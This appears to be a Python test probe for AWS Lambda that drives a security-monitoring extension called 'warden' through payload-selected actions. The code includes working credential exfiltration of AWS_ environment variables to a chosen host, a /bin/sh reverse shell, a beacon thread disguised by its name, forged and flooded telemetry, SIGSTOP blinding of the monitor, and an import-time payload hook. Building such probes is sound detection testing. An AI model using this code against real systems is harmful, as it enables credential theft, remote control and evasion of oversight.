"""Probe function: performs the actions named in its event and answers with what it did.

The payload keys and the response are described in tests/functions/README.md; the Rust
probe (tests/functions/rust-probe) implements the same contract. Standard library only.
"""

import json
import os
import socket
import subprocess
import sys
import threading
import time

CONNECT_TIMEOUT_S = 2.0
DRAIN_TIMEOUT_S = 2.0
MAX_ERRORS = 5
UDP_DATAGRAM = b"warden probe datagram"
CRASH_EXIT_CODE = 3

# Keys in the order they are performed.
ORDER = (
    "delay_ms",
    "forge_telemetry",
    "flood_telemetry",
    "stop_extension",
    "connect",
    "send",
    "udp",
    "spawn",
    "spawn_detached",
    "beacon",
    "reverse_shell",
    "write_tmp",
    "exec_tmp",
    "burn_ms",
    "error_lines",
    "log_lines",
    "sleep_ms",
    "bg_start",
    "bg_read",
    "snmp_connect",
    "list_pids",
    "exists",
    "env",
    "response_bytes",
    "crash",
    "fail",
)
FLAG_KEYS = ("crash", "bg_start", "bg_read", "list_pids")


class ProbeError(Exception):
    """A handled function error requested by the payload ("fail")."""


_bg_lock = threading.Lock()
_bg_started = False
_bg_count = 0
_beacon_started = False
# Detached children stay referenced so they are never reaped or warned about.
_detached = []


_request_id = ""


def handler(event, context):
    global _request_id
    _request_id = getattr(context, "aws_request_id", "") or ""
    payload = event if isinstance(event, dict) else {}
    out = {"pid": os.getpid()}
    done = []
    failure = None
    for key in ORDER:
        if key not in payload:
            continue
        arg = payload[key]
        if key in FLAG_KEYS and arg is not True:
            continue
        if key == "fail":
            failure = arg if isinstance(arg, str) else json.dumps(arg)
        else:
            try:
                _perform(key, arg, out)
            except Exception as err:  # every failure is reported, never raised
                out[key] = {"error": str(err)}
        done.append(key)
    out["done"] = done
    if failure is not None:
        raise ProbeError(failure)
    return out


def _perform(key, arg, out):
    if key == "forge_telemetry":
        out[key] = _forge_telemetry(arg)
    elif key == "flood_telemetry":
        out[key] = _flood_telemetry(arg)
    elif key == "stop_extension":
        out[key] = _stop_extension(arg)
    elif key == "connect":
        out[key] = _connect(arg)
    elif key == "send":
        out[key] = _send(arg)
    elif key == "udp":
        out[key] = _udp(arg)
    elif key == "spawn":
        out[key] = _status(subprocess.run(_argv(arg), stdin=subprocess.DEVNULL).returncode)
    elif key == "spawn_detached":
        out[key] = {"pid": _spawn_detached(arg)}
    elif key == "reverse_shell":
        out[key] = _reverse_shell(arg)
    elif key == "write_tmp":
        out[key] = _write_tmp(arg)
    elif key == "exec_tmp":
        out[key] = _exec_tmp(arg)
    elif key == "burn_ms":
        out[key] = {"elapsed_ms": _burn(_number(arg))}
    elif key in ("error_lines", "log_lines"):
        out[key] = _print_lines(_number(arg), key == "error_lines")
    elif key in ("sleep_ms", "delay_ms"):
        time.sleep(_number(arg) / 1000.0)
        out[key] = arg
    elif key == "bg_start":
        out[key] = {"started": _start_background_counter()}
    elif key == "beacon":
        out[key] = {"started": _start_beacon(arg)}
    elif key == "bg_read":
        out["bg_count"] = _bg_count
    elif key == "snmp_connect":
        delta, details = _snmp_connect(arg)
        out["active_opens_delta"] = delta
        out[key] = details
    elif key == "list_pids":
        out["pids"] = _list_pids()
    elif key == "exists":
        out[key] = {path: os.path.lexists(path) for path in arg if isinstance(path, str)}
    elif key == "env":
        out["env"] = {name: os.environ.get(name) for name in arg if isinstance(name, str)}
    elif key == "response_bytes":
        out["blob"] = "x" * _number(arg)
    elif key == "crash":
        sys.stdout.flush()
        sys.stderr.flush()
        os._exit(CRASH_EXIT_CODE)


def _number(arg):
    if isinstance(arg, bool) or not isinstance(arg, int) or arg < 0:
        raise ValueError(f"expected a non-negative integer, got {arg!r}")
    return arg


def _field(arg, name):
    if not isinstance(arg, dict) or name not in arg:
        raise ValueError(f"missing field {name}")
    return arg[name]


def _argv(arg):
    argv = [item for item in arg if isinstance(item, str)] if isinstance(arg, list) else []
    if not argv:
        raise ValueError("expected a non-empty array of strings")
    return argv


def _status(returncode):
    if returncode < 0:
        return {"exit_code": None, "signal": -returncode}
    return {"exit_code": returncode, "signal": None}


def _target(arg, socktype=socket.SOCK_STREAM):
    """Resolves host and port once, up front, like the Rust probe; a failure is the action's error."""
    host, port = _field(arg, "host"), _field(arg, "port")
    if not isinstance(host, str):
        raise ValueError("field host must be a string")
    try:
        infos = socket.getaddrinfo(host, _number(port), type=socktype)
    except OSError as err:
        raise ValueError(f"resolve {host}: {err}") from err
    return [(family, addr) for family, _, _, _, addr in infos]


def _connect_any(addrs):
    """Connects to the first address that accepts, bounded in time."""
    last_error = OSError("no address")
    for family, addr in addrs:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.settimeout(CONNECT_TIMEOUT_S)
        try:
            sock.connect(addr)
            return sock
        except OSError as err:
            sock.close()
            last_error = err
    raise last_error


def _note_error(errors, err):
    if len(errors) < MAX_ERRORS:
        errors.append(str(err))


def _connect(arg):
    addrs = _target(arg)
    attempts = _number(arg.get("count", 1))
    connected, errors = 0, []
    for _ in range(attempts):
        try:
            _connect_any(addrs).close()
            connected += 1
        except OSError as err:
            _note_error(errors, err)
    return {"attempted": attempts, "connected": connected, "failed": attempts - connected, "errors": errors}


def _send(arg):
    addrs = _target(arg)
    stolen = _stolen_credentials() if isinstance(arg, dict) and arg.get("environ") else b""
    size = len(stolen) if stolen else _number(_field(arg, "bytes"))
    try:
        sock = _connect_any(addrs)
    except OSError as err:
        return {"connected": False, "sent": 0, "error": str(err)}
    result = {"connected": True, "sent": 0}
    with sock:
        chunk = stolen or b"x" * min(size, 64 * 1024)
        try:
            while result["sent"] < size:
                part = chunk[: size - result["sent"]]
                sock.sendall(part)
                result["sent"] += len(part)
            sock.shutdown(socket.SHUT_WR)
        except OSError as err:
            result["error"] = str(err)
        result["received"] = _drain(sock)
    return result


def _stolen_credentials():
    """The role's credentials read from the runtime's own memory, as JSON: no file, no
    process, nothing but the payload shows them."""
    creds = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
    return json.dumps(creds).encode()


def _drain(sock):
    """Reads until the peer closes, an error, or the drain deadline; returns the byte count."""
    deadline = time.monotonic() + DRAIN_TIMEOUT_S
    received = 0
    while True:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return received
        sock.settimeout(remaining)
        try:
            data = sock.recv(8192)
        except OSError:
            return received
        if not data:
            return received
        received += len(data)


def _udp(arg):
    family, addr = _target(arg, socket.SOCK_DGRAM)[0]
    datagrams = _number(arg.get("count", 1))
    sent, errors = 0, []
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        for _ in range(datagrams):
            try:
                sock.sendto(UDP_DATAGRAM, addr)
                sent += 1
            except OSError as err:
                _note_error(errors, err)
    return {"sent": sent, "failed": datagrams - sent, "errors": errors}


def _spawn_detached(arg):
    # No stdio: a leftover child must not hold the function's output pipes open.
    child = subprocess.Popen(
        _argv(arg), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    _detached.append(child)
    return child.pid


def _reverse_shell(arg):
    """`sh` with its stdio on a TCP connection to host:port; waits up to `wait_ms` for it to end."""
    addrs = _target(arg)
    wait_ms = _number(arg.get("wait_ms", 2000))
    sock = _connect_any(addrs)
    sock.settimeout(None)
    with sock:
        fd = sock.fileno()
        child = subprocess.Popen(["/bin/sh"], stdin=fd, stdout=fd, stderr=fd)
    started = time.monotonic()
    try:
        result = _status(child.wait(timeout=wait_ms / 1000.0))
        result["running"] = False
        result["ended_after_ms"] = int((time.monotonic() - started) * 1000)
    except subprocess.TimeoutExpired:
        # Still running at the end of the wait: ended here so it cannot outlive the test.
        result = {"exit_code": None, "signal": None, "running": True}
        child.kill()
        child.wait()
    result["pid"] = child.pid
    return result


def _write_tmp(arg):
    path, size = _field(arg, "path"), _number(_field(arg, "bytes"))
    with open(path, "wb") as f:
        f.write(b"x" * size)
    return {"path": path, "bytes": size}


def _exec_tmp(arg):
    path, script = _field(arg, "path"), _field(arg, "script")
    with open(path, "w") as f:
        f.write(script)
    os.chmod(path, 0o755)
    proc = subprocess.run([path], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    result = _status(proc.returncode)
    result["path"] = path
    result["stdout"] = proc.stdout.decode("utf-8", "replace")
    return result


def _burn(ms):
    """Burns `ms` of this thread's CPU time (not wall time: a busy machine stretches the wall)."""
    start = time.thread_time()
    wall = time.monotonic()
    acc = 0
    while (time.thread_time() - start) * 1000.0 < ms and (time.monotonic() - wall) < ms / 100.0:
        for i in range(10_000):
            acc = (acc * 6364136223846793005 + i) & 0xFFFFFFFFFFFFFFFF
    return int((time.thread_time() - start) * 1000.0)


def _print_lines(count, to_stderr):
    stream = sys.stderr if to_stderr else sys.stdout
    for i in range(count):
        if to_stderr:
            print(f"ERROR probe error line {i}", file=stream)
        else:
            print(f"probe log line {i}", file=stream)
    stream.flush()
    return count


def _start_background_counter():
    """Starts the counter thread once per process; tells whether this call started it."""
    global _bg_started
    with _bg_lock:
        if _bg_started:
            return False
        _bg_started = True
    threading.Thread(target=_count_forever, name="probe-bg", daemon=True).start()
    return True


def _start_beacon(arg):
    """A planted beacon: a daemon thread that connects to the target every `period_ms`, for as
    long as the process lives (each thaw wakes it), the first time after `first_after_ms` (0:
    at once; longer than the invocation: a silent plant, first heard at a later thaw).
    Started once per process."""
    global _beacon_started
    addrs, period = _target(arg), _number(arg.get("period_ms", 100)) / 1000.0
    first_after = _number(arg.get("first_after_ms", 0)) / 1000.0
    with _bg_lock:
        if _beacon_started:
            return False
        _beacon_started = True

    def beat():
        if first_after > 0:
            time.sleep(first_after)
        while True:
            try:
                _connect_any(addrs).close()
            except OSError:
                pass
            time.sleep(period)

    threading.Thread(target=beat, name="ThreadPoolExecutor-0_0", daemon=True).start()
    return True


def _count_forever():
    global _bg_count
    while True:
        time.sleep(0.01)
        _bg_count += 1


def _active_opens():
    with open("/proc/net/snmp") as f:
        tcp_lines = [line.split() for line in f if line.startswith("Tcp:")]
    if len(tcp_lines) < 2:
        raise ValueError("/proc/net/snmp has no Tcp lines")
    names, values = tcp_lines[0], tcp_lines[1]
    if "ActiveOpens" not in names:
        raise ValueError("/proc/net/snmp has no Tcp ActiveOpens")
    return int(values[names.index("ActiveOpens")])


def _snmp_connect(arg):
    addrs = _target(arg)
    before = _active_opens()
    error = None
    try:
        _connect_any(addrs).close()
    except OSError as err:
        error = str(err)
    after = _active_opens()
    details = {"before": before, "after": after, "connected": error is None, "error": error}
    return after - before, details


def _list_pids():
    pids = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        # A process may exit between listing and reading: its comm is then null.
        try:
            with open(f"/proc/{name}/comm") as f:
                comm = f.read().rstrip("\n")
        except OSError:
            comm = None
        pids.append({"pid": int(name), "comm": comm})
    pids.sort(key=lambda p: p["pid"])
    return pids


# Tampering with an extension's telemetry listener, as function code could: find the
# listening TCP ports in /proc/net (the listener's port is not secret), then POST forged
# platform events to each, or hold connections open and send oversized bodies.


def _listening_ports():
    """Local ports of listening TCP sockets, except the Runtime API's."""
    api = os.environ.get("AWS_LAMBDA_RUNTIME_API", "")
    api_port = api.rsplit(":", 1)[-1] if ":" in api else ""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                next(f, None)
                for line in f:
                    fields = line.split()
                    if len(fields) > 3 and fields[3] == "0A":
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            continue
    return sorted(p for p in ports if str(p) != api_port)


def _platform_event(kind, request_id, record):
    record = dict(record, requestId=request_id)
    return {"time": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()), "type": kind, "record": record}


def _forged_batch(arg):
    """A runtimeDone for this invocation (an error: stops the sampler, feeds an error burst)
    and whole invocations for made-up request ids."""
    done = {"status": "error", "errorType": "Forged", "metrics": {"durationMs": 1.0, "producedBytes": 1}}
    batch = [_platform_event("platform.runtimeDone", _request_id, done)]
    for i in range(_number(arg.get("fake_ids", 2))):
        fake = f"forged-{i}-{_request_id[:8]}"
        batch.append(_platform_event("platform.start", fake, {"version": "$LATEST"}))
        batch.append(_platform_event("platform.runtimeDone", fake, done))
        batch.append(_platform_event("platform.report", fake, {"status": "error", "metrics": {"durationMs": 1.0, "billedDurationMs": 1, "memorySizeMB": 128, "maxMemoryUsedMB": 40}}))
    return json.dumps(batch).encode()


def _post(port, path, body, timeout=CONNECT_TIMEOUT_S):
    """One HTTP POST over a plain socket; the status code, or the error text."""
    head = (f"POST {path} HTTP/1.1\r\nHost: sandbox.localdomain:{port}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n")
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            sock.sendall(head.encode() + body)
            answer = sock.recv(256).decode(errors="replace")
    except OSError as err:
        return str(err)
    parts = answer.split(" ", 2)
    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else answer[:40]


def _forge_telemetry(arg):
    arg = arg if isinstance(arg, dict) else {}
    body = _forged_batch(arg)
    paths = arg.get("paths", ["/", "/telemetry", "/2022-07-01/telemetry"])
    answers = {}
    for port in _listening_ports():
        answers[str(port)] = {path: _post(port, path, body) for path in paths}
    return {"request_id": _request_id, "ports": answers}


def _flood_telemetry(arg):
    """Slow clients that never finish their headers, idle connections, and bodies far over
    any sensible size, against every listening port; returns what each port answered."""
    arg = arg if isinstance(arg, dict) else {}
    holds, opened = [], 0
    ports = _listening_ports()
    for port in ports:
        for i in range(_number(arg.get("connections", 32))):
            try:
                sock = socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT_S)
                if i % 2 == 0:
                    sock.sendall(b"POST / HTTP/1.1\r\nHost: x\r\n")
                holds.append(sock)
                opened += 1
            except OSError:
                break
    big = _number(arg.get("body_bytes", 16 * 1024 * 1024))
    oversized = {str(p): _post(p, "/", b" " * big, timeout=5.0) for p in ports}
    time.sleep(_number(arg.get("hold_ms", 500)) / 1000.0)
    closed = 0
    for sock in holds:
        try:
            sock.settimeout(0.01)
            if sock.recv(1) == b"":
                closed += 1
        except socket.timeout:
            pass
        except OSError:
            closed += 1
        sock.close()
    return {"ports": ports, "opened": opened, "closed_by_server": closed, "oversized": oversized}


def _stop_extension(arg):
    """SIGSTOPs every process whose name is `name` (default "warden"), runs `during` (a
    command, optional), waits `ms` (default 1500), then SIGCONTs them: an extension blinded
    while the function works."""
    import signal

    arg = arg if isinstance(arg, dict) else {}
    name = arg.get("name", "warden")
    pids = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/comm") as f:
                if f.read().strip() == name:
                    pids.append(int(entry))
        except OSError:
            continue
    stopped = []
    for pid in pids:
        try:
            os.kill(pid, signal.SIGSTOP)
            stopped.append(pid)
        except OSError:
            pass
    ran = None
    if "during" in arg:
        ran = _status(subprocess.run(_argv(arg["during"]), stdin=subprocess.DEVNULL).returncode)
    time.sleep(_number(arg.get("ms", 1500)) / 1000.0)
    for pid in stopped:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    return {"stopped": stopped, "during": ran}


def _init_phase():
    """`PROBE_INIT`: a payload performed when the module is imported, in the init phase
    (code that runs before any event: a dependency's import-time side effect)."""
    text = os.environ.get("PROBE_INIT")
    if not text:
        return
    payload = json.loads(text)
    out = {}
    for key in ORDER:
        if key in payload and key not in ("crash", "fail"):
            try:
                _perform(key, payload[key], out)
            except Exception as err:
                out[key] = {"error": str(err)}
    print("probe init: " + json.dumps(out), file=sys.stderr, flush=True)


_init_phase()
